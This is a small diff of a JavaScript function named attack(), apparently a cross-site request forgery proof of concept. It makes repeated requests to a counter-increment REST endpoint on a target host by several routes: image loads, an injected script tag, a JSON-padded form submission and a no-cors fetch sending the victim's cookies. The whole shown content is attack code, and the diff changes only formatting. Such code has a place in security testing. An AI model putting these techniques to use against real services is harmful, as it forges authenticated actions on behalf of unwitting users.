@@ -45,7 +45,8 @@ function form(path, name, value) {
 }
 async function attack() {
   for (let i = 0; i < 3; i++) { const img = new Image(); img.src = H + "/rest/v1/counter/increment?by=1&n=" + i; }
-  const s = document.createElement("script"); s.src = H + "/rest/v1/counter/increment?by=1"; document.body.appendChild(s);
+  const s = document.createElement("script");
+  s.src = H + "/rest/v1/counter/increment?by=1"; document.body.appendChild(s);
   form("/rest/v1/counter/increment", '{"by": 1, "pad": "', '"}');
   const body = '{"by": 1}';
   await fetch(H + "/rest/v1/counter/increment", {method: "POST", mode: "no-cors", credentials: "include",
